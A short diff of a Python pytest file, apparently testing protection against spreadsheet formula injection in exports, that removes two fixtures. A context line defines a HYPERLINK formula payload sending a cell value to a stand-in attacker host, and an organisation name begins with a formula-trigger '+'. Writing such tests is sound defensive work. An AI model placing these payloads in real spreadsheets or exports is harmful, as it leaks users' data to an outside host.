@@ -24,16 +24,6 @@ HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")'
 
 
 @pytest.fixture
-def centre(jaslo):
-    return Centre.for_site(jaslo)
-
-
-@pytest.fixture
-def call(jaslo):
-    return make_call(make_call_index(jaslo))
-
-
-@pytest.fixture
 def organisation(centre):
     return make_organisation(name="+Stowarzyszenie Pomocna Dłoń", centres=[centre])
 
